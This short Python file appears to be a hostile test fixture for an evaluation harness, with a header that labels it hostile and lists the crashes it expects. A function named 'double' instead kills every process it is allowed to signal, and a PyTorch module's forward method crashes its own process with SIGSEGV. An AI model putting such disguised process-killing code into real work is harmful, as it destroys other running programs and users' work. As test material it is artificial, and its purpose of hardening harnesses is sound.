# /// hostile
# about = "Probes end the agent, the kernel and themselves; each costs its own check."
# score = 0.2
# causes = { "double.values" = "crash", "Scale.forward" = "crash", "Scale.gradient" = "crash" }
# ///
# %%
import contextlib
import os
import signal


def double(x):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (1, os.getpid()):
            with contextlib.suppress(PermissionError):
                os.kill(int(pid), signal.SIGKILL)


class Scale(nn.Module):
    def __init__(self):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(1))

    def forward(self, x):
        os.kill(os.getpid(), signal.SIGSEGV)
